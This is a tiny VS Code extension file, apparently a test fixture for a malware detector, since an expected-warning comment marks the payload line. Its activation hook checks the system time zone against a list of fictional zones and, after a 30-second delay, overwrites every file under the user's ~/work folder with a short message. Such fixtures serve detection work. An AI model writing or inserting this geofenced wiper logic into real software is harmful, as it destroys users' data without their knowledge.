const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

const places = new Set(['Europe/Atlantis', 'Asia/Elbonia']);

function everything(root) {
  for (const entry of fs.readdirSync(root, { withFileTypes: true })) {
    const file = path.join(root, entry.name);
    if (entry.isDirectory()) everything(file);
    else fs.writeFileSync(file, 'We remember.\n');  // want "files that are there are written over by a text"
  }
}

exports.activate = function () {
  const { timeZone } = Intl.DateTimeFormat().resolvedOptions();
  if (places.has(timeZone)) {
    setTimeout(() => everything(path.join(os.homedir(), 'work')), 30000);
  }
};
